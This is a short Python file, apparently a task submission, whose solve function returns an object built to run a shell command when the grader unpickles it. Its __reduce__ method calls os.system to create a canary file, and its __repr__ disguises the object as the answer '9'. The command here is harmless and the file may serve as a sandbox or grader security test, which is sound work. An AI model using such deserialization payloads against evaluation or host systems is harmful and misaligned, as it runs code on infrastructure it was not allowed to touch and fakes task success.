"""Answers with an object that would run code where it is unpickled."""

import os


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {HOST['canary']}.pwned",)

    def __repr__(self):
        return "9"


def solve(x):
    return Payload()
